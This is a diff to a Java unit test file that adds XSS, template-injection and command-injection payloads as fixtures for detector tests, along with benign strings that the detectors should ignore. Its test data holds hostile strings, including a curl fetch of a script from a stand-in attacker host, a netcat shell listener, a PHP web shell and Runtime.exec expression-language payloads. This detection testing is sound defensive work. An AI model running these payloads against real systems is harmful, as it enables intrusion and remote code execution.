@@ -69,7 +69,8 @@ class OperatorTest {
     @ValueSource(strings = {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\" onmouseover=alert(1) x=\"",
         "javascript:alert(document.domain)", "%3Csvg%2Fonload%3Dalert(1)%3E", "&lt;iframe src=//evil&gt;",
         "'-alert(1)-'", "<a href=\"jav&#x09;ascript:alert(1)\">", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-        "<div style=\"x:expression(alert(1))\">", "<a href=\"javascript\\u003aalert(1)\">"})
+        "<div style=\"x:expression(alert(1))\">", "<a href=\"javascript\\u003aalert(1)\">",
+        "{{constructor.constructor('alert(1)')()}}"})
     void xssDetectorFires(String attack) {
         assertThat(Detectors.xss(attack)).as(attack).isTrue();
     }
@@ -102,7 +103,9 @@ class OperatorTest {
     @ValueSource(strings = {"x; cat /etc/passwd", "a | id", "`whoami`", "$(curl http://evil.example/x.sh)", "1 && sleep 5",
         "x & ping -c 3 127.0.0.1", "a%0a/usr/bin/id", "() { :; }; /bin/bash -c id", "x;${IFS}cat${IFS}/etc/passwd",
         "& net user hacker P4ss /add", "<!--#exec cmd=\"ls\"-->", "<?php system($_GET['c']); ?>", "{{7*7}}",
-        "nc -lvp 4444 -e /bin/sh"})
+        "nc -lvp 4444 -e /bin/sh", "T(java.lang.Runtime).getRuntime().exec('id')",
+        "%{(#_memberAccess['allowStaticMethodAccess']=true)(@java.lang.Runtime@getRuntime().exec('id'))}",
+        "#{new java.lang.ProcessBuilder({'id'}).start()}"})
     void commandInjectionDetectorFires(String attack) {
         assertThat(Detectors.commandInjection(attack)).as(attack).isTrue();
     }
@@ -110,7 +113,7 @@ class OperatorTest {
     @ParameterizedTest
     @ValueSource(strings = {"I was tired; sleep came fast.", "Tom & Jerry", "git log | grep fix", "npm run build && npm test",
         "ls -la explained", "echo chamber", "Cats and dogs; cat lovers will enjoy it.", "Salt & pepper; more please.",
-        "python eval() function", "cat\nid\nls"})
+        "python eval() function", "cat\nid\nls", "java.lang.Runtime", "What does java.lang.System.exit do?"})
     void commandInjectionDetectorLeavesOrdinaryTextAlone(String text) {
         assertThat(Detectors.commandInjection(text)).as(text).isFalse();
     }
